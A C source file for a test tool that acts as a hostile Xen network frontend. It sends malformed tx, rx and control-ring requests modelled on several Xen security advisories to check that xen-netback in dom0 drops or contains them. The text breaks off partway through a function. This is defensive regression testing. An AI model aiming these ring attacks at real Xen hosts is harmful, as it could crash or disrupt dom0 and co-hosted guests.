// SPDX-License-Identifier: GPL-2.0
/*
 * nbhostile: a hostile netfront, for the VM test 56-netback-hostile.  Runs
 * in a PV guest on a vif that the guest's own netfront has let go of (the
 * test unbinds it), connects to xen-netback through xenstore with rings
 * granted from /dev/xen/gntalloc and an event channel from /dev/xen/evtchn,
 * puts one malformed packet of the kind ATTACK names on the tx ring, then
 * a well-formed probe packet, and reports what came back:
 *
 *   RESULT attack=A bad=<statuses of the malformed packet's responses>
 *          probe=okay|error|none
 *
 * (a status per slot, "-" for a slot with no response).  Then it closes the
 * connection again, so that the next run starts afresh.  dom0 judges the
 * outcome: the malformed packet must never reach dom0's network stack; a
 * fatal error must stop the vif (the probe then gets no answer), a packet
 * to drop must get error responses and leave the vif working (the probe
 * gets an OKAY answer and reaches dom0).
 *
 * Usage: nbhostile DEVID ATTACK.  Attacks (protocol-hazards.md, netback):
 *   none      just the probe
 *   far       req_prod far beyond req_cons
 *   txback    two slots of a packet that says more follows; once the
 *             backend has read both (its req_event asks for the third),
 *             req_prod goes back to the first, then the probe, which a
 *             backend that took no notice would take as the packet's
 *             end.  bad= says whether the backend read both slots
 *             (seen) or not within 5 s (unseen)
 *   offset    a slot whose offset + size crosses the page end
 *   slotsN    a frame in N slots of 64 bytes (2 <= N <= 24); with the
 *             default fatal_skb_slots (20), as in-tree: 19 are delivered,
 *             20 and 21 dropped, 22 and more fatal
 *   sizes     following slots larger than what the first slot announced
 *   runt      a 10-byte packet, shorter than an Ethernet header
 *   extra0    an extra info slot of type 0 (none)
 *   extra9    an extra info slot of an unknown type
 *   gso0      a GSO extra with size 0
 *   zerofrag  a first slot announcing 60 bytes, then 17 fragments of size 0
 *   tinyhdr   a 200-byte packet whose first 60 bytes come in 1-byte slots
 *   tiny18    a 128-byte patterned frame (ethertype 0x88b6) in 18 slots:
 *             legal, must arrive intact (XSA-432's shape, within limits)
 *   tiny19    the same in the head plus 18 slots (XSA-432): delivered
 *             intact, as in-tree
 *   tinyends  a 146-byte patterned frame: 128 bytes in the first slot,
 *             then 18 slots of 1 byte, each the last byte of its page
 *             (what once cost dom0 a page each): delivered intact
 * Attacks that dom0 drives step by step: the program writes the step's
 * name to the guest's xenstore data/nbh-step and goes on when dom0 writes
 * the same name to data/nbh-go (after 300 s without it, too); at the end
 * it writes data/nbh-step = done:
 *   ctrl      a control ring (XSA-270): a valid mapping size and mapping,
 *             then SET_HASH_MAPPING with off + len wrapping 32 bits, len
 *             beyond a page, queue numbers >= the number of queues, a bad
 *             grant, SET_HASH_MAPPING_SIZE too large, unknown types; then
 *             valid requests again.  RESULT lists name=status[/data] of
 *             each ("-": no response, "id": id or type not echoed), then
 *             the probe.  Steps "connected" before the requests and
 *             "probed" after the probe (dom0 reads the vif's counters
 *             while it is connected: they go with the connection).
 *   ctrldis   a control ring; GET_HASH_MAPPING_SIZE, then a tx req_prod
 *             far beyond the ring (fatal), step "disabled" (dom0 waits for
 *             the carrier to go off), the same request again (3 s for an
 *             answer), step "asked"; RESULT before= after= (status, "-":
 *             none)
 *   rxstall0  connect, post no receive buffer (XSA-392), step "stalling",
 *   rxstall1  or exactly one, no other until dom0's go; then NRXBUF
 *             buffers, kept posted, with an event only when req_event
 *             asks (as netfront), step "posted" (dom0 waits for the
 *             carrier and sends); RESULT rx=<responses while stalled>
 *             after=<responses after>
 *   rxbadref  NRXBUF receive buffers, kept posted, whose grant reference
 *             the guest never granted; step "posted" (dom0 sends);
 *             RESULT rx=<responses> err=<frames answered with an error>
 *   mcast     request-multicast-control=1 and 32 receive buffers kept
 *             posted; an MCAST_ADD extra for 03:99:00:00:00:01, step
 *             "joined" (dom0 sends to it and to 03:99:00:00:00:02), then
 *             MCAST_DEL and step "left" (dom0 sends again); RESULT add=,
 *             del= (tx statuses), g1= g2= (frames of each group seen
 *             while joined), g1del= g2del= (after the DEL), bcast=; then
 *             64 more groups added, fill= of them answered OKAY, and a
 *             65th, over= its status
 *   garbage SEED  random bytes in every tx request (half of them with a
 *             valid data grant), req_prod random within the ring or
 *             beyond it; then up to 4 probes, step "judge" (dom0 looks at
 *             the vif's carrier); RESULT prod= answered= probe= tries=
 *   rxflip    (XSA-332) connect, step "connected" (dom0 queues a frame
 *             that needs two receive slots), then for at most FLIP_MAX
 *             flips or FLIP_SECS seconds set rx req_prod to one past the
 *             last posted request and back, with an rx event each time,
 *             never posting more; step "flipped" (dom0 reads the event
 *             counters); then 32 real buffers, kept posted, and the
 *             probe.  RESULT flips= ms= rsp= (responses during the
 *             flips) rx= (responses after) big= (frames of more than
 *             one slot) probe=
 *   rxflip-split  the same with split event channels (event-channel-tx,
 *             -rx), flipping on the rx one
 * Exit status: 0 after a report, 2 if it could not connect.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef uint16_t domid_t;	/* the UAPI headers expect it from the includer */
#include <xen/evtchn.h>
#include <xen/gntalloc.h>

/*
 * Xen's public headers, at their latest interface version, leave the
 * barriers to the includer.
 */
#define __XEN_TOOLS__
#define xen_mb()	__sync_synchronize()
#define xen_rmb()	__sync_synchronize()
#define xen_wmb()	__sync_synchronize()
#include <xen/xen.h>
#include <xen/grant_table.h>
#include <xen/io/netif.h>
#include <xen/io/xenbus.h>

#define PAGE		4096
#define NDATA		24		/* data pages, one per slot at most */
#define NRXBUF		32		/* receive buffers, a page each */
#define PG_CTRL		(2 + NDATA)	/* control ring */
#define PG_MAP		(PG_CTRL + 1)	/* hash mapping table */
#define PG_RX		(PG_MAP + 1)	/* receive buffers */
#define NPAGES		(PG_RX + NRXBUF)
#define PROBE_LEN	60
#define MAX_SLOTS	32
#define STEP_SECS	300

static char fe[64];		/* device/vif/N */
static char be[256];		/* the backend's directory */
static uint8_t *mem;
static uint32_t refs[NPAGES];
static netif_tx_front_ring_t tx;
static netif_rx_front_ring_t rx;
static xen_netif_ctrl_front_ring_t ctrl;
static int evfd;
static unsigned int port, ctrl_port;
static int want_ctrl, want_mcast;	/* connect with a control ring, filter */
static int want_split;			/* separate tx and rx event channels */
static unsigned int rx_port;		/* the rx one, if want_split */
static uint16_t rx_buf[__CONST_RING_SIZE(netif_rx, PAGE)];	/* buffer of each rx slot */
static int rx_repost;			/* give consumed buffers back */
static int rx_badref;			/* post buffers with a grant never made */
static int rx_by_event;			/* kick only if req_event asks, as netfront */
static unsigned long rx_seen, rx_g1, rx_g2, rx_bcast, rx_big, rx_err;
static const uint8_t group1[6] = { 0x03, 0x99, 0, 0, 0, 0x01 };
static const uint8_t group2[6] = { 0x03, 0x99, 0, 0, 0, 0x02 };

static void die(const char *what)
{
	fprintf(stderr, "nbhostile: %s: %s\n", what, strerror(errno));
	exit(2);
}

/* ---- xenstore through the guest's xenstore-* tools ---- */

static int xs_write(const char *path, const char *val)
{
	pid_t pid = fork();
	int st;

	if (pid == 0) {
		execlp("xenstore-write", "xenstore-write", path, val, (char *)NULL);
		_exit(127);
	}
	if (pid < 0 || waitpid(pid, &st, 0) < 0)
		return -1;
	return WIFEXITED(st) && WEXITSTATUS(st) == 0 ? 0 : -1;
}

/* xs_rm: remove DIR/KEY and what is under it (no error if it is not there). */
static void xs_rm(const char *dir, const char *key)
{
	char path[320];
	pid_t pid;
	int st;

	snprintf(path, sizeof(path), "%s/%s", dir, key);
	pid = fork();
	if (pid == 0) {
		execlp("xenstore-rm", "xenstore-rm", path, (char *)NULL);
		_exit(127);
	}
	if (pid > 0)
		waitpid(pid, &st, 0);
}

static int xs_writef(const char *dir, const char *key, const char *fmt, ...)
	__attribute__((format(printf, 3, 4)));
static int xs_writef(const char *dir, const char *key, const char *fmt, ...)
{
	char path[320], val[64];
	va_list ap;

	snprintf(path, sizeof(path), "%s/%s", dir, key);
	va_start(ap, fmt);
	vsnprintf(val, sizeof(val), fmt, ap);
	va_end(ap);
	return xs_write(path, val);
}

/* xs_read: the value of PATH into BUF (empty if it does not exist). */
static void xs_read(const char *path, char *buf, size_t len)
{
	char cmd[400];
	FILE *f;
	size_t n = 0;

	buf[0] = '\0';
	snprintf(cmd, sizeof(cmd), "xenstore-read '%s' 2>/dev/null", path);
	f = popen(cmd, "r");
	if (!f)
		return;
	if (fgets(buf, len, f))
		n = strcspn(buf, "\n");
	buf[n] = '\0';
	pclose(f);
}

static int be_state(void)
{
	char path[300], v[16];

	snprintf(path, sizeof(path), "%s/state", be);
	xs_read(path, v, sizeof(v));
	return v[0] ? atoi(v) : -1;
}

/* wait_be: until the backend's state is A or B, at most SECS seconds. */
static int wait_be(int a, int b, int secs)
{
	int i, s = -1;

	for (i = 0; i < secs * 10; i++) {
		s = be_state();
		if (s == a || s == b)
			return 0;
		usleep(100000);
	}
	fprintf(stderr, "nbhostile: backend state %d, waited for %d or %d\n", s, a, b);
	return -1;
}

static void fe_state(int s)
{
	if (xs_writef(fe, "state", "%d", s))
		die("write state");
}

/* ---- connection ---- */

static void setup(void)
{
	struct ioctl_gntalloc_alloc_gref *a;
	struct ioctl_evtchn_bind_unbound_port bind = { .remote_domain = 0 };
	int gfd, r, i;

	gfd = open("/dev/xen/gntalloc", O_RDWR);
	if (gfd < 0)
		die("open /dev/xen/gntalloc");
	a = calloc(1, sizeof(*a) + NPAGES * sizeof(a->gref_ids[0]));
	if (!a)
		die("calloc");
	a->domid = 0;
	a->flags = GNTALLOC_FLAG_WRITABLE;
	a->count = NPAGES;
	if (ioctl(gfd, IOCTL_GNTALLOC_ALLOC_GREF, a))
		die("IOCTL_GNTALLOC_ALLOC_GREF");
	mem = mmap(NULL, NPAGES * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, gfd, a->index);
	if (mem == MAP_FAILED)
		die("mmap gntalloc");
	memcpy(refs, a->gref_ids, sizeof(refs));
	free(a);

	evfd = open("/dev/xen/evtchn", O_RDWR);
	if (evfd < 0)
		die("open /dev/xen/evtchn");
	r = ioctl(evfd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &bind);
	if (r < 0)
		die("IOCTL_EVTCHN_BIND_UNBOUND_PORT");
	port = r;
	r = ioctl(evfd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &bind);
	if (r < 0)
		die("IOCTL_EVTCHN_BIND_UNBOUND_PORT (control)");
	ctrl_port = r;

	memset(mem, 0, NPAGES * PAGE);
	SHARED_RING_INIT((netif_tx_sring_t *)mem);
	FRONT_RING_INIT(&tx, (netif_tx_sring_t *)mem, PAGE);
	SHARED_RING_INIT((netif_rx_sring_t *)(mem + PAGE));
	FRONT_RING_INIT(&rx, (netif_rx_sring_t *)(mem + PAGE), PAGE);
	SHARED_RING_INIT((xen_netif_ctrl_sring_t *)(mem + PG_CTRL * PAGE));
	FRONT_RING_INIT(&ctrl, (xen_netif_ctrl_sring_t *)(mem + PG_CTRL * PAGE), PAGE);
	for (i = 2; i < PG_CTRL; i++)
		memset(mem + i * PAGE, 0xa5, PAGE);
}

static void connect_backend(void)
{
	static const char * const stale[] = {
		"event-channel-tx", "event-channel-rx", "multi-queue-num-queues",
		"queue-0", "queue-1", "queue-2", "queue-3", "ctrl-ring-ref",
		"event-channel-ctrl", "feature-gso-tcpv6", "feature-ipv6-csum-offload",
		"request-multicast-control",
	};
	char path[96];
	unsigned int i;

	snprintf(path, sizeof(path), "%s/backend", fe);
	xs_read(path, be, sizeof(be));
	if (!be[0]) {
		errno = ENOENT;
		die("no backend for this vif");
	}
	/* From wherever the last run (or the unbound netfront) left it. */
	if (be_state() != XenbusStateClosed && be_state() != XenbusStateInitWait) {
		fe_state(XenbusStateClosing);
		wait_be(XenbusStateClosing, XenbusStateClosed, 10);
		fe_state(XenbusStateClosed);
		wait_be(XenbusStateClosed, XenbusStateInitWait, 10);
	}
	/*
	 * The guest's netfront leaves its keys behind: the backend would
	 * take its split event channels or queues for ours.
	 */
	for (i = 0; i < sizeof(stale) / sizeof(stale[0]); i++)
		xs_rm(fe, stale[i]);
	fe_state(XenbusStateInitialising);
	if (wait_be(XenbusStateInitWait, XenbusStateInitWait, 10))
		die("backend never reached InitWait");
	if (want_split) {
		struct ioctl_evtchn_bind_unbound_port bind = { .remote_domain = 0 };
		int r = ioctl(evfd, IOCTL_EVTCHN_BIND_UNBOUND_PORT, &bind);

		if (r < 0)
			die("IOCTL_EVTCHN_BIND_UNBOUND_PORT (rx)");
		rx_port = r;
		xs_rm(fe, "event-channel");
		if (xs_writef(fe, "event-channel-tx", "%u", port) ||
		    xs_writef(fe, "event-channel-rx", "%u", rx_port))
			die("write split event channels");
	} else if (xs_writef(fe, "event-channel", "%u", port)) {
		die("write event-channel");
	}
	if (xs_writef(fe, "tx-ring-ref", "%u", refs[0]) ||
	    xs_writef(fe, "rx-ring-ref", "%u", refs[1]) ||
	    xs_writef(fe, "request-rx-copy", "1") ||
	    xs_writef(fe, "feature-rx-notify", "1") ||
	    xs_writef(fe, "feature-sg", "1") ||
	    xs_writef(fe, "feature-gso-tcpv4", "1"))
		die("write ring details");
	if (want_ctrl &&
	    (xs_writef(fe, "ctrl-ring-ref", "%u", refs[PG_CTRL]) ||
	     xs_writef(fe, "event-channel-ctrl", "%u", ctrl_port)))
		die("write control ring details");
	if (want_mcast && xs_writef(fe, "request-multicast-control", "1"))
		die("write request-multicast-control");
	fe_state(XenbusStateConnected);
	if (wait_be(XenbusStateConnected, XenbusStateConnected, 10))
		die("backend never reached Connected");
}

static void disconnect_backend(void)
{
	fe_state(XenbusStateClosing);
	wait_be(XenbusStateClosing, XenbusStateClosed, 10);
	fe_state(XenbusStateClosed);
	wait_be(XenbusStateClosed, XenbusStateClosed, 10);
}

static void kick(void)
{
	struct ioctl_evtchn_notify n = { .port = port };

	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
		die("IOCTL_EVTCHN_NOTIFY");
}

/* kick_rx: an event for the receive ring, on its own channel if split. */
static void kick_rx(void)
{
	struct ioctl_evtchn_notify n = { .port = want_split ? rx_port : port };

	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
		die("IOCTL_EVTCHN_NOTIFY (rx)");
}

/* ---- requests ---- */

/* slot: one tx request on data page PG; returns it for more fields. */
static netif_tx_request_t *slot(unsigned int pg, uint16_t off, uint16_t size, uint16_t flags)
{
	netif_tx_request_t *r = RING_GET_REQUEST(&tx, tx.req_prod_pvt);

	r->gref = refs[2 + pg % NDATA];
	r->offset = off;
	r->size = size;
	r->flags = flags;
	r->id = tx.req_prod_pvt % RING_SIZE(&tx);
	tx.req_prod_pvt++;
	return r;
}

static void extra(uint8_t type, uint16_t gso_size)
{
	netif_tx_request_t *r = RING_GET_REQUEST(&tx, tx.req_prod_pvt);
	struct netif_extra_info *e = (void *)r;

	memset(r, 0, sizeof(*r));
	e->type = type;
	if (type == XEN_NETIF_EXTRA_TYPE_GSO) {
		e->u.gso.size = gso_size;
		e->u.gso.type = XEN_NETIF_GSO_TYPE_TCPV4;
	}
	tx.req_prod_pvt++;
}

/* frame: an Ethernet broadcast of LEN bytes (ethertype 0x88b5) on page PG. */
static void frame(unsigned int pg, unsigned int len)
{
	uint8_t *p = mem + (2 + pg) * PAGE;

	memset(p, 0xff, 6);
	memcpy(p + 6, "\x00\x16\x3e\x99\x99\x99", 6);
	p[12] = 0x88;
	p[13] = 0xb5;
	memset(p + 14, 0x42, len > 14 ? len - 14 : 0);
}

/* pattern: a broadcast of LEN bytes, ethertype 0x88b6, that dom0 checks. */
static void pattern(unsigned int pg, unsigned int len)
{
	uint8_t *p = mem + (2 + pg) * PAGE;
	unsigned int i;

	memset(p, 0xff, 6);
	memcpy(p + 6, "\x00\x16\x3e\x99\x99\x99", 6);
	p[12] = 0x88;
	p[13] = 0xb6;
	for (i = 0; i + 14 < len; i++)
		p[14 + i] = 7 * i + 1;
}

/*
 * A 128-byte patterned frame in N data slots: the first holds what the
 * N - 1 following 6-byte slots (in order, on the same page) leave.
 */
static void tiny(unsigned int n)
{
	unsigned int first = 128 - 6 * (n - 1), i;

	pattern(0, 128);
	slot(0, 0, 128, NETTXF_more_data);
	for (i = 1; i < n; i++)
		slot(0, first + 6 * (i - 1), 6, i + 1 < n ? NETTXF_more_data : 0);
}

/*
 * A 146-byte patterned frame: 128 bytes at the start of page 0, the other
 * 18 each alone at the end of pages 1 to 18.
 */
static void tiny_ends(void)
{
	const uint8_t *p = mem + 2 * PAGE;
	unsigned int i;

	pattern(0, 146);
	slot(0, 0, 146, NETTXF_more_data);
	for (i = 1; i <= 18; i++) {
		mem[(3 + i) * PAGE - 1] = p[127 + i];
		slot(i, PAGE - 1, 1, i < 18 ? NETTXF_more_data : 0);
	}
}

/* A packet of N slots: first announces TOTAL, the others each carry EACH. */
static void chain(unsigned int n, unsigned int total, unsigned int each)
{
	unsigned int i;

	frame(0, total);
	slot(0, 0, total, n > 1 ? NETTXF_more_data : 0);
	for (i = 1; i < n; i++)
		slot(i, 0, each, i + 1 < n ? NETTXF_more_data : 0);
}

/* collect: the responses to slots [FROM, TO) within SECS; "-" if none. */
static void collect(RING_IDX from, RING_IDX to, int secs, char *out, size_t len)
{
	int16_t st[MAX_SLOTS];
	int got[MAX_SLOTS] = { 0 };
	unsigned int n = to - from, i, done = 0;
	int t;
	size_t o = 0;

	if (n > MAX_SLOTS)
		n = MAX_SLOTS;
	for (t = 0; t < secs * 20 && done < n; t++) {
		while (tx.rsp_cons != tx.sring->rsp_prod) {
			netif_tx_response_t *r;
			uint16_t id;

			xen_rmb();
			r = RING_GET_RESPONSE(&tx, tx.rsp_cons);
			id = r->id;
			tx.rsp_cons++;
			/* Extra info slots get NULL responses with no id. */
			if (r->status == NETIF_RSP_NULL)
				continue;
			for (i = 0; i < n; i++) {
				if ((from + i) % RING_SIZE(&tx) == id && !got[i]) {
					got[i] = 1;
					st[i] = r->status;
					done++;
					break;
				}
			}
		}
		if (done < n)
			usleep(50000);
	}
	out[0] = '\0';
	for (i = 0; i < n && o + 8 < len; i++) {
		if (!got[i])
			o += snprintf(out + o, len - o, "%s-", i ? "," : "");
		else
			o += snprintf(out + o, len - o, "%s%d", i ? "," : "", st[i]);
	}
}

/* probe: a well-formed 60-byte frame in the next slot. */
static void probe(void)
{
	frame(NDATA - 1, PROBE_LEN);
	slot(NDATA - 1, 0, PROBE_LEN, 0);
}

/* attack: put the malformed packet on the ring (not yet pushed). */
static void attack(const char *a)
{
	unsigned int i;

	if (!strcmp(a, "none")) {
		return;
	} else if (!strcmp(a, "offset")) {
		frame(0, 200);
		slot(0, PAGE - 100, 200, 0);
	} else if (sscanf(a, "slots%u", &i) == 1 && i >= 2 && i <= NDATA) {
		chain(i, i * 64, 64);
	} else if (!strcmp(a, "sizes")) {
		/* The first slot says 100 bytes in all; the next alone has 400. */
		chain(3, 100, 400);
	} else if (!strcmp(a, "runt")) {
		frame(0, 10);
		slot(0, 0, 10, 0);
	} else if (!strcmp(a, "extra0") || !strcmp(a, "extra9")) {
		frame(0, 100);
		slot(0, 0, 100, NETTXF_extra_info);
		extra(a[5] == '0' ? XEN_NETIF_EXTRA_TYPE_NONE : 9, 0);
	} else if (!strcmp(a, "gso0")) {
		frame(0, 1000);
		slot(0, 0, 1000, NETTXF_extra_info | NETTXF_csum_blank | NETTXF_data_validated);
		extra(XEN_NETIF_EXTRA_TYPE_GSO, 0);
	} else if (!strcmp(a, "zerofrag")) {
		chain(18, 60, 0);
	} else if (!strcmp(a, "tinyhdr")) {
		/*
		 * 200 bytes from page 0: 1 byte in the first slot, 16 in
		 * 1-byte slots, the other 183 in the last one.
		 */
		frame(0, 200);
		slot(0, 0, 200, NETTXF_more_data);
		for (i = 1; i <= 16; i++)
			slot(0, i, 1, NETTXF_more_data);
		slot(0, 17, 183, 0);
	} else if (!strcmp(a, "tiny18")) {
		tiny(18);
	} else if (!strcmp(a, "tiny19")) {
		tiny(19);
	} else if (!strcmp(a, "tinyends")) {
		tiny_ends();
	} else {
		fprintf(stderr, "nbhostile: unknown attack %s\n", a);
		exit(2);
	}
}

/* ---- receive ring ---- */

/* rx_post: N more receive buffers (buffer i is page PG_RX + i % NRXBUF). */
static void rx_post(unsigned int n)
{
	unsigned int i;

	for (i = 0; i < n; i++) {
		netif_rx_request_t *r = RING_GET_REQUEST(&rx, rx.req_prod_pvt);
		uint16_t b = rx.req_prod_pvt % NRXBUF;

		r->id = b;
		r->gref = rx_badref ? 0x7fffffff : refs[PG_RX + b];
		rx_buf[rx.req_prod_pvt % RING_SIZE(&rx)] = b;
		rx.req_prod_pvt++;
	}
	if (rx_by_event) {
		int notify;

		RING_PUSH_REQUESTS_AND_CHECK_NOTIFY(&rx, notify);
		if (notify)
			kick_rx();
		return;
	}
	RING_PUSH_REQUESTS(&rx);
	kick_rx();
}

/*
 * rx_drain: count the frames the backend delivered by destination, and
 * give each buffer back if rx_repost (responses fill the slots of the
 * requests they answer, so the slot says whose buffer it was).
 */
static void rx_drain(void)
{
	static int in_extra, in_frame;
	unsigned int n = 0;

	while (rx.rsp_cons != rx.sring->rsp_prod) {
		netif_rx_response_t *r;
		uint16_t b;

		xen_rmb();
		r = RING_GET_RESPONSE(&rx, rx.rsp_cons);
		b = rx_buf[rx.rsp_cons % RING_SIZE(&rx)];
		rx.rsp_cons++;
		n++;
		rx_seen++;
		if (in_extra) {
			in_extra = ((struct netif_extra_info *)r)->flags &
				   XEN_NETIF_EXTRA_FLAG_MORE;
			continue;
		}
		if (!in_frame && r->status >= 6 && r->offset < PAGE - 6) {
			const uint8_t *d = mem + (PG_RX + b) * PAGE + r->offset;

			if (r->flags & NETRXF_more_data)
				rx_big++;
			if (!memcmp(d, group1, 6))
				rx_g1++;
			else if (!memcmp(d, group2, 6))
				rx_g2++;
			else if (!memcmp(d, "\xff\xff\xff\xff\xff\xff", 6))
				rx_bcast++;
		}
		if (!in_frame && r->status < 0)
			rx_err++;
		in_extra = r->flags & NETRXF_extra_info;
		in_frame = !!(r->flags & NETRXF_more_data);
	}
	if (n && rx_repost)
		rx_post(n);
}

/* ---- steps that dom0 drives ---- */

/*
 * step: tell dom0 that NAME is reached (data/nbh-step) and wait until it
 * writes NAME to data/nbh-go, keeping the receive ring served.
 */
static void step(const char *name)
{
	char go[64];
	int i;

	if (xs_write("data/nbh-step", name))
		die("write data/nbh-step");
	for (i = 0; i < STEP_SECS * 5; i++) {
		rx_drain();
		xs_read("data/nbh-go", go, sizeof(go));
		if (!strcmp(go, name))
			return;
		usleep(200000);
	}
	fprintf(stderr, "nbhostile: no go for step %s\n", name);
}

/* linger: serve the receive ring for SECS seconds. */
static void linger(int secs)
{
	int i;

	for (i = 0; i < secs * 10; i++) {
		rx_drain();
		usleep(100000);
	}
}

/* ---- control ring (XSA-270) ---- */

/* ctrl_req: one request; its status as text ("-": none), *data its data. */
static void ctrl_req(uint16_t type, uint32_t d0, uint32_t d1, uint32_t d2,
		     char *out, size_t len, uint32_t *data)
{
	struct xen_netif_ctrl_request *q = RING_GET_REQUEST(&ctrl, ctrl.req_prod_pvt);
	struct ioctl_evtchn_notify n = { .port = ctrl_port };
	static uint16_t id = 0x100;
	int t;

	q->id = ++id;
	q->type = type;
	q->data[0] = d0;
	q->data[1] = d1;
	q->data[2] = d2;
	ctrl.req_prod_pvt++;
	RING_PUSH_REQUESTS(&ctrl);
	if (ioctl(evfd, IOCTL_EVTCHN_NOTIFY, &n))
		die("IOCTL_EVTCHN_NOTIFY (control)");
	snprintf(out, len, "-");
	for (t = 0; t < 60; t++) {
		if (ctrl.rsp_cons != ctrl.sring->rsp_prod) {
			struct xen_netif_ctrl_response *r;

			xen_rmb();
			r = RING_GET_RESPONSE(&ctrl, ctrl.rsp_cons);
			ctrl.rsp_cons++;
			if (r->id != id || r->type != type)
				snprintf(out, len, "id");
			else
				snprintf(out, len, "%u", r->status);
			if (data)
				*data = r->data;
			return;
		}
		usleep(50000);
	}
}

static void ctrl_attack(char *res, size_t len)
{
	uint32_t *map = (uint32_t *)(mem + PG_MAP * PAGE);
	uint32_t max = 0, ref = refs[PG_MAP];
	const uint32_t S = XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING;
	char st[16];
	size_t o = 0;

#define CTRL_REQ(name, type, d0, d1, d2, data)				\
	do {								\
		ctrl_req(type, d0, d1, d2, st, sizeof(st), data);	\
		o += snprintf(res + o, len - o, " %s=%s", name, st);	\
	} while (0)

	memset(map, 0, PAGE);
	CTRL_REQ("getsize", XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0, &max);
	o += snprintf(res + o, len - o, "/%u", max);
	if (!max)
		max = 8;
	CTRL_REQ("setsize_big", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, max + 1, 0, 0, NULL);
	CTRL_REQ("setsize_huge", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, 0xffffffff, 0, 0, NULL);
	CTRL_REQ("setsize", XEN_NETIF_CTRL_TYPE_SET_HASH_MAPPING_SIZE, max, 0, 0, NULL);
	CTRL_REQ("map", S, ref, max, 0, NULL);
	/* off + len wraps to a small number. */
	CTRL_REQ("map_wrap", S, ref, 16, 0xfffffff8, NULL);
	CTRL_REQ("map_wrap2", S, ref, 0xffffffff, 1, NULL);
	CTRL_REQ("map_end", S, ref, 2, max - 1, NULL);
	/* More entries than a page holds. */
	CTRL_REQ("map_page", S, ref, PAGE / 4 + 1, 0, NULL);
	/* A queue number at or beyond the number of queues (1). */
	map[3] = 1;
	CTRL_REQ("map_queue", S, ref, 4, 0, NULL);
	map[3] = 0xffffffff;
	CTRL_REQ("map_queue_big", S, ref, 4, 0, NULL);
	map[3] = 0;
	CTRL_REQ("map_gref", S, 0xfffffff0, 4, 0, NULL);
	CTRL_REQ("type0", XEN_NETIF_CTRL_TYPE_INVALID, 0, 0, 0, NULL);
	CTRL_REQ("type99", 99, 1, 2, 3, NULL);
	/* The ring still serves, and a valid mapping still goes in. */
	CTRL_REQ("map_after", S, ref, 4, max - 4, NULL);
	CTRL_REQ("getsize_after", XEN_NETIF_CTRL_TYPE_GET_HASH_MAPPING_SIZE, 0, 0, 0, NULL);
#undef CTRL_REQ
	/* Where the ring stands, should a response be missing. */
	snprintf(res + o, len - o, " ring=%u/%u/%u/%u", ctrl.sring->req_prod,
		 ctrl.sring->req_event, ctrl.sring->rsp_prod, ctrl.sring->rsp_event);
}

/* ---- multicast control ---- */

/* mcast_req: an MCAST_ADD or _DEL extra on a dummy request; its status. */
static int mcast_req(uint8_t type, const uint8_t *addr)
{
	netif_tx_request_t *r;
	struct netif_extra_info *e;
	RING_IDX from = tx.req_prod_pvt;
	char st[16];

	slot(0, 0, 0, NETTXF_extra_info);
	r = RING_GET_REQUEST(&tx, tx.req_prod_pvt);
	e = (void *)r;
	memset(r, 0, sizeof(*r));
	e->type = type;
	memcpy(e->u.mcast.addr, addr, 6);
	tx.req_prod_pvt++;
	RING_PUSH_REQUESTS(&tx);
	kick();
	collect(from, from + 1, 3, st, sizeof(st));
	return !strcmp(st, "-") ? 999 : atoi(st);
}

/* ---- rx req_prod back and forth (XSA-332) ---- */

#define FLIP_MAX	2000
#define FLIP_SECS	4

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/*
 * rx_flip: req_prod to base + 1 and back to base, an rx event after each
 * write, about one a millisecond (a backend that keeps up sees each); the
 * number of flips and the milliseconds they took.
 */
static unsigned int rx_flip(unsigned int *ms)
{
	RING_IDX base = rx.req_prod_pvt;
	netif_rx_request_t *r = RING_GET_REQUEST(&rx, base);
	unsigned int n;
	double t0;

	/*
	 * Not posted, but should the backend take the slot anyway, its copy
	 * lands in a buffer of ours, not wherever grant 0 points.
	 */
	r->id = 0;
	r->gref = refs[PG_RX];
	rx_buf[base % RING_SIZE(&rx)] = 0;
	xen_wmb();
	t0 = now();
	for (n = 0; n < FLIP_MAX && now() - t0 < FLIP_SECS; n++) {
		rx.sring->req_prod = base + !(n & 1);
		kick_rx();
		usleep(1000);
	}
	rx.sring->req_prod = base;
	*ms = (now() - t0) * 1000;
	return n;
}

/* ---- garbage on the tx ring (XSA-39) ---- */

static RING_IDX garbage(unsigned int seed, unsigned int *answered)
{
	unsigned int i, j, size = RING_SIZE(&tx);
	RING_IDX prod, seen;

	srand(seed);
	for (i = 2; i < 2 + NDATA; i++)
		for (j = 0; j < PAGE; j++)
			mem[i * PAGE + j] = rand();
	for (i = 0; i < size; i++) {
		netif_tx_request_t *r = &tx.sring->ring[i].req;
		uint8_t *b = (uint8_t *)r;

		for (j = 0; j < sizeof(*r); j++)
			b[j] = rand();
		/*
		 * Half the slots name a real grant, so copies happen; half
		 * of those also stay within the page and have no extras,
		 * so that packets get past the first checks.
		 */
		if (rand() & 1)
			continue;
		r->gref = refs[2 + rand() % NDATA];
		if (rand() & 1)
			continue;
		r->offset = rand() % (PAGE / 2);
		r->size = rand() % (PAGE / 2);
		r->flags &= NETTXF_more_data | NETTXF_csum_blank | NETTXF_data_validated;
	}
	prod = rand() % 3 ? 1 + rand() % size : size + 1 + rand();
	xen_wmb();
	tx.sring->req_prod = prod;
	kick();
	/* Until the responses stop coming (1 s without one), 10 s at most. */
	seen = tx.sring->rsp_prod;
	for (i = j = 0; i < 100 && j < 10; i++) {
		usleep(100000);
		j = tx.sring->rsp_prod == seen ? j + 1 : 0;
		seen = tx.sring->rsp_prod;
	}
	*answered = seen;
	tx.req_prod_pvt = prod;
	return prod;
}

/* probe_again: a probe after garbage; its status, or "-". */
static void probe_again(char *out, size_t len)
{
	RING_IDX from = tx.req_prod_pvt;

